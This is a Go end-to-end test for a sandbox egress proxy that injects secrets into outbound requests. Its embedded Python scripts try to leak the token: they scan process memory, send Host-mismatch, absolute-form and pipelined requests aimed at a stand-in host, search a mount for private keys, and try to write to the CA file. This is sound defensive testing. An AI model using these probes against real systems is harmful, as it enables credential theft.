package e2e

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"

	sandboxv1 "github.com/sandboxd/sandboxd/gen/coreweave/sandbox/v1"
	"github.com/sandboxd/sandboxd/gen/coreweave/sandbox/v1/sandboxv1connect"
	settingsv1 "github.com/sandboxd/sandboxd/gen/sandboxd/settings/v1"
	"github.com/sandboxd/sandboxd/gen/sandboxd/settings/v1/settingsv1connect"
	"github.com/sandboxd/sandboxd/internal/auth"
	"github.com/sandboxd/sandboxd/internal/connecttest"
	"github.com/sandboxd/sandboxd/internal/egress/egresstest"
	"github.com/sandboxd/sandboxd/internal/gateway"
	"github.com/sandboxd/sandboxd/internal/runner"
	"github.com/sandboxd/sandboxd/internal/runtime/local/network"
	"github.com/sandboxd/sandboxd/internal/secretbox"
	"github.com/sandboxd/sandboxd/internal/stack"
	"github.com/sandboxd/sandboxd/internal/store"
	"github.com/sandboxd/sandboxd/internal/testenv/logbuf"
)

// egressSecretProbe runs in the sandbox: it calls the injection host and the other host
// with its placeholder in Authorization (Python's ssl trusts SSL_CERT_FILE), then dumps
// its own memory (/proc/self/maps + /proc/self/mem) looking for the value, of which it
// is given only the first 8 bytes, the SHA-256 and the length.
const egressSecretProbe = `
import hashlib, json, os, ssl, sys, urllib.request
# The value itself is never materialized here: its first 8 bytes, its SHA-256 and length.
prefix, digest, vlen = bytes.fromhex(sys.argv[1]), sys.argv[2], int(sys.argv[3])
def holds_value(chunk):
    i = chunk.find(prefix)
    while i >= 0:
        if hashlib.sha256(chunk[i:i + vlen]).hexdigest() == digest:
            return True
        i = chunk.find(prefix, i + 1)
    return False
ph = os.environ["API_TOKEN"]
out = {"placeholder": ph, "env": {k: os.environ.get(k, "") for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS")}}
for name in ("api.inject.test", "other.inject.test"):
    try:
        req = urllib.request.Request("https://%s/echo" % name, headers={"Authorization": "Bearer " + ph})
        with urllib.request.urlopen(req, timeout=20) as r:
            out[name] = r.read().decode()
            out[name + " issuer"] = ""
    except Exception as e:
        out[name] = "fail: %r" % (e,)
try:
    open("/proc/self/mem", "rb")
    found_needle = found_ph = False
    regions = 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            addrs, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            lo, hi = (int(x, 16) for x in addrs.split("-"))
            if hi - lo > 1 << 30:
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            regions += 1
            found_needle = found_needle or holds_value(chunk)
            found_ph = found_ph or ph.encode() in chunk
    out["memory"] = {"regions": regions, "value": found_needle, "placeholder": found_ph}
except Exception as e:
    out["memory"] = {"error": repr(e)}
try:
    open(os.environ["SSL_CERT_FILE"].rsplit("/", 1)[0] + "/ca.key")
    out["ca key"] = "readable"
except OSError:
    out["ca key"] = "absent"
print(json.dumps(out))
`

// egressSecretAttacks runs in the sandbox: requests over TLS to api.inject.test (the
// injection host) that try to get the secret sent elsewhere, and reads for the CA key.
const egressSecretAttacks = `
import json, os, socket, ssl
ph = os.environ["API_TOKEN"]
ctx = ssl.create_default_context()
def raw(reqs):
    s = ctx.wrap_socket(socket.create_connection(("api.inject.test", 443), timeout=20), server_hostname="api.inject.test")
    s.sendall(reqs.encode())
    data = b""
    while True:
        try:
            b = s.recv(65536)
        except OSError:
            break
        if not b:
            break
        data += b
    s.close()
    return data.decode(errors="replace")
out = {}
out["host mismatch"] = raw("GET /echo HTTP/1.1\r\nHost: other.inject.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % ph)[:40]
out["absolute form"] = raw("GET https://other.inject.test/echo HTTP/1.1\r\nHost: api.inject.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % ph)[:40]
r = raw("GET /echo HTTP/1.1\r\nHost: api.inject.test\r\n\r\nGET /echo HTTP/1.1\r\nHost: other.inject.test\r\nAuthorization: Bearer %s\r\n\r\n" % ph)
out["second request other host"] = r[r.find("HTTP/1.1", 10):][:40]
found = []
for root, dirs, files in os.walk("/etc/sandboxd-egress"):
    for f in files:
        if b"PRIVATE KEY" in open(os.path.join(root, f), "rb").read():
            found.append(f)
out["key in mount"] = ",".join(found) or "none"
try:
    open("/etc/sandboxd-egress/ca.pem", "a").write("x")
    out["write mount"] = "written"
except OSError as e:
    out["write mount"] = "refused: %s" % e.strerror
print(json.dumps(out))
`

// egressSecretEnv is a local stack with egress on, resolving names with in's DNS and
// trusting in's CA (the proxy verifies upstreams against it, sandboxes trust it for
// hosts without a secret), and a gateway on it whose org-a admin has created the
// secret store "prod" holding value at api#token.
type egressSecretEnv struct {
	dir      string // holds the stack's and the gateway's data dirs
	s        *stack.Stack
	cfg      stack.Config
	stackDir string
	g        *gw
	logs     *logbuf.Buffer // the stack's and the gateway's log, at DEBUG
}

// startEgressSecretEnv starts an egressSecretEnv; configure, when set, adjusts the
// gateway's configuration further. The stack closes with the test; finishing it (the
// leak checks) is the caller's, which may restart it first.
func startEgressSecretEnv(ctx context.Context, t *testing.T, in *egresstest.Internet, value string, configure func(*gateway.Config)) *egressSecretEnv {
	t.Helper()
	dir := t.TempDir()
	caFile := filepath.Join(dir, "internet-ca.pem")
	if err := os.WriteFile(caFile, in.CA.CertPEM(), 0o644); err != nil {
		t.Fatal(err)
	}
	e := &egressSecretEnv{dir: dir, stackDir: filepath.Join(dir, "stack"), logs: &logbuf.Buffer{}}
	logger := slog.New(slog.NewTextHandler(e.logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	e.cfg = env.StackConfig(e.stackDir)
	e.cfg.NoEgress = false
	e.cfg.Nameservers = []string{in.DNS.String()}
	e.cfg.EgressUpstreamCAFile = caFile // the proxy verifies api.inject.test against it
	e.cfg.EgressRootsFile = caFile      // and the sandbox trusts it for other hosts
	e.cfg.Logger = logger
	var err error
	if e.s, err = stack.NewLocal(ctx, e.cfg); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.s.Close)

	gwDir := filepath.Join(dir, "gateway")
	st, err := store.Open(ctx, filepath.Join(gwDir, "sandboxd.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	ring, err := secretbox.LoadOrCreate(filepath.Join(gwDir, secretbox.DefaultFile))
	if err != nil {
		t.Fatal(err)
	}
	var adminKey string
	e.g = startGatewayOn(t, e.s, func(c *gateway.Config) {
		c.Logger = logger
		c.Secrets = gateway.SecretOptions{Store: st.SecretStores(), Keys: ring}
		adminKey, _, _ = c.Auth.(*auth.Keyring).Create("org-a", auth.RoleAdmin, "")
		if configure != nil {
			configure(c)
		}
	})
	hc := &http.Client{Transport: &http.Transport{Protocols: func() *http.Protocols {
		p := new(http.Protocols)
		p.SetUnencryptedHTTP2(true)
		return p
	}()}}
	adminOpts := []connect.ClientOption{connect.WithGRPC(), connect.WithInterceptors(connecttest.Bearer(adminKey))}
	settings := sandboxv1connect.NewSettingsServiceClient(hc, e.g.url, adminOpts...)
	secrets := settingsv1connect.NewSecretServiceClient(hc, e.g.url, adminOpts...)
	if _, err := settings.CreateSecretStore(ctx, connect.NewRequest(&sandboxv1.CreateSecretStoreRequest{SecretStore: &sandboxv1.SecretStore{Name: "prod"}})); err != nil {
		t.Fatal(err)
	}
	if _, err := secrets.PutSecret(ctx, connect.NewRequest(&settingsv1.PutSecretRequest{StoreName: "prod", Path: "api", Field: "token", Value: value})); err != nil {
		t.Fatal(err)
	}
	return e
}

// TestEgressSecretInjection (docs/secrets.md, "Secrets that never enter the sandbox"):
// a sandbox whose rule attaches a store secret to api.inject.test gets a placeholder;
// the server there (in a network namespace of its own) sees the real value in
// Authorization, another host sees the placeholder; the value is in neither the
// sandbox's environment nor the memory of the process that made the request, nor any
// file of the runner's and gateway's data dirs; the audit log names every use.
func TestEgressSecretInjection(t *testing.T) {
	const value = "e2e-egress-token-4d1f0a9c2b"
	in := egresstest.New(t)
	apiIP, otherIP := in.Addr(t), in.Addr(t)
	in.SetA("api.inject.test", apiIP)
	in.SetA("other.inject.test", otherIP)
	in.ServeHTTPS(t, apiIP, "api.inject.test")
	otherSrv := in.ServeHTTPS(t, otherIP, "other.inject.test")

	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	e := startEgressSecretEnv(ctx, t, in, value, nil)
	dir, s, cfg, stackDir, g, logs := e.dir, e.s, e.cfg, e.stackDir, e.g, e.logs
	restarted := false // the restart below finishes the second stack instead
	t.Cleanup(func() {
		if !restarted {
			finish(t, s, cfg.DataDir)
		}
	})

	sp := spec(env.Python(), "/bin/sh", "-c", `trap "exit 0" TERM; sleep infinity & wait`)
	sp.Network = &sandboxv1.NetworkOptions{Egress: []*sandboxv1.EgressRule{
		{Destination: &sandboxv1.EgressRule_HttpsHostname{HttpsHostname: "api.inject.test"},
			SandboxdSecret: &sandboxv1.EgressSecretInjection{StoreName: "prod", Path: "api", Field: "token", EnvVar: "API_TOKEN"}},
		{Destination: &sandboxv1.EgressRule_HttpsHostname{HttpsHostname: "other.inject.test"}},
	}}

	// Refusals first: an unknown store and an unknown secret, with their reasons.
	bad := func(store, path string) error {
		b := spec(env.Python(), "/bin/true")
		b.Network = &sandboxv1.NetworkOptions{Egress: []*sandboxv1.EgressRule{{Destination: &sandboxv1.EgressRule_HttpsHostname{HttpsHostname: "api.inject.test"},
			SandboxdSecret: &sandboxv1.EgressSecretInjection{StoreName: store, Path: path, EnvVar: "API_TOKEN"}}}}
		_, err := g.sandboxes.CreateSandbox(ctx, connect.NewRequest(&sandboxv1.CreateSandboxRequest{Sandbox: &sandboxv1.Sandbox{Spec: b}}))
		return err
	}
	if err := bad("nope", "api"); err == nil || !strings.Contains(err.Error(), "CWSANDBOX_SECRET_STORE_NOT_PROVISIONED") && connect.CodeOf(err) != connect.CodeFailedPrecondition {
		t.Errorf("unknown store: %v", err)
	}
	if err := bad("prod", "missing"); err == nil || connect.CodeOf(err) != connect.CodeFailedPrecondition {
		t.Errorf("unknown secret: %v", err)
	}

	id := g.create(t, sp, "").GetSandboxId()
	got := g.waitState(t, id, sandboxv1.State_STATE_RUNNING)
	if eg := got.GetStatus().GetEffectiveEgress(); len(eg) != 2 || eg[0].GetSandboxdSecret().GetStoreName() != "prod" {
		t.Errorf("effective egress %v", eg)
	}

	sum := sha256.Sum256([]byte(value))
	probeArgs := []string{"python3", "-c", egressSecretProbe, hex.EncodeToString([]byte(value[:8])), hex.EncodeToString(sum[:]), strconv.Itoa(len(value))}
	start := time.Now()
	ex, err := g.sandboxes.Exec(ctx, connect.NewRequest(&sandboxv1.ExecRequest{SandboxId: id, Command: probeArgs}))
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("probe took %v", time.Since(start))
	stdout := string(ex.Msg.GetStdout())
	if strings.Contains(stdout, value) {
		t.Fatalf("the probe's output holds the value:\n%s", stdout)
	}
	var out struct {
		Placeholder string            `json:"placeholder"`
		Env         map[string]string `json:"env"`
		API         string            `json:"api.inject.test"`
		Other       string            `json:"other.inject.test"`
		Memory      map[string]any    `json:"memory"`
		CAKey       string            `json:"ca key"`
	}
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &out); err != nil {
		t.Fatalf("probe output %q (stderr %q): %v", stdout, ex.Msg.GetStderr(), err)
	}
	t.Logf("probe: %+v", out)
	if !strings.HasPrefix(out.Placeholder, "sbx-secret-") || len(out.Placeholder) != len("sbx-secret-")+32 {
		t.Errorf("placeholder %q", out.Placeholder)
	}
	if want := "authorization=" + egresstest.EchoHash("Bearer "+value); !strings.Contains(out.API, want) {
		t.Errorf("api.inject.test saw %q, want %s (the real value)", out.API, want)
	}
	if want := "authorization=" + egresstest.EchoHash("Bearer "+out.Placeholder); !strings.Contains(out.Other, want) {
		t.Errorf("other.inject.test saw %q, want %s (the placeholder)", out.Other, want)
	}
	if out.Memory["value"] != false || out.Memory["placeholder"] != true {
		t.Errorf("memory of the calling process: %v (want the placeholder, not the value)", out.Memory)
	}
	if out.Env["SSL_CERT_FILE"] != "/etc/sandboxd-egress/bundle.pem" || out.Env["NODE_EXTRA_CA_CERTS"] != "/etc/sandboxd-egress/ca.pem" {
		t.Errorf("CA variables %v", out.Env)
	}
	if out.CAKey != "absent" {
		t.Errorf("CA key: %s", out.CAKey)
	}
	// The environment of every process the sandbox starts.
	envx, err := g.sandboxes.Exec(ctx, connect.NewRequest(&sandboxv1.ExecRequest{SandboxId: id, Command: []string{"sh", "-c", "env; cat /proc/1/environ; ls /etc/sandboxd-egress"}}))
	if err != nil {
		t.Fatal(err)
	}
	if e := string(envx.Msg.GetStdout()); strings.Contains(e, value) || !strings.Contains(e, "API_TOKEN="+out.Placeholder) {
		t.Errorf("environment:\n%s", e)
	}
	// Attacks from inside (see also test/security TestEgressSecretAttacks): the TLS
	// server name of the injection host with another Host, or a URL naming another host,
	// is refused before anything reaches a server; the CA's key is nowhere to be read.
	before := otherSrv.Conns()
	attack, err := g.sandboxes.Exec(ctx, connect.NewRequest(&sandboxv1.ExecRequest{SandboxId: id, Command: []string{"python3", "-c", egressSecretAttacks}}))
	if err != nil {
		t.Fatal(err)
	}
	var atk map[string]string
	if err := json.Unmarshal([]byte(strings.TrimSpace(string(attack.Msg.GetStdout()))), &atk); err != nil {
		t.Fatalf("attack output %q (stderr %q): %v", attack.Msg.GetStdout(), attack.Msg.GetStderr(), err)
	}
	t.Logf("attacks: %v", atk)
	for k, want := range map[string]string{
		"host mismatch": "HTTP/1.1 421", "absolute form": "HTTP/1.1 400", "second request other host": "HTTP/1.1 421",
		"key in mount": "none", "write mount": "refused",
	} {
		if !strings.HasPrefix(atk[k], want) {
			t.Errorf("%s: got %q, want %q…", k, atk[k], want)
		}
	}
	if n := otherSrv.Conns(); n != before {
		t.Errorf("other.inject.test got %d connections from the attacks", n-before)
	}
	// The audit log: a use, never the value.
	auditPath := filepath.Join(stackDir, "network", network.AuditFile)
	audit, err := os.ReadFile(auditPath)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(audit), value) || !strings.Contains(string(audit), `"result":"injected"`) ||
		!strings.Contains(string(audit), `"sandbox":"`+id+`"`) || !strings.Contains(string(audit), `"secret":"prod/api#token"`) ||
		!strings.Contains(string(audit), `"org":"org-a"`) {
		t.Errorf("audit log:\n%s", audit)
	}
	t.Logf("audit: %s", strings.TrimSpace(string(audit)))
	// Nowhere on disk, nowhere in the logs.
	if hits := grepTree(t, dir, value); len(hits) > 0 {
		t.Errorf("the value is in files: %v", hits)
	}
	if strings.Contains(logs.String(), value) {
		t.Error("the value is in the logs")
	}

	// A runner restart: the values and the CA key were in memory only. The re-adopted
	// sandbox keeps its placeholder; its connections to the injection host are refused
	// (never sent on with the placeholder), the other host still works.
	s.Close()
	s2, err := stack.NewLocal(context.Background(), cfg) // outlives the test body (cleanups)
	if err != nil {
		t.Fatal(err)
	}
	restarted = true
	t.Cleanup(s2.Close)
	t.Cleanup(func() { finish(t, s2, cfg.DataDir) })
	waitState(t, s2, id, runner.StateRunning, 30*time.Second)
	after := execIn(t, agentOf(t, s2, id), "python3", "-c", `
import os, urllib.request
for name in ("api.inject.test", "other.inject.test"):
    try:
        req = urllib.request.Request("https://%s/echo" % name, headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
        print(name, "ok", urllib.request.urlopen(req, timeout=20).read().decode())
    except Exception as e:
        print(name, "fail", repr(e))
`)
	res := string(after.GetStdout())
	t.Logf("after the restart:\n%s", res)
	if !strings.Contains(res, "api.inject.test fail") || !strings.Contains(res, "other.inject.test ok") {
		t.Errorf("after the restart:\n%s%s", res, after.GetStderr())
	}
	audit, _ = os.ReadFile(auditPath)
	if !strings.Contains(string(audit), "no longer holds this sandbox's secrets") || strings.Contains(string(audit), value) {
		t.Errorf("audit after the restart:\n%s", audit)
	}
}
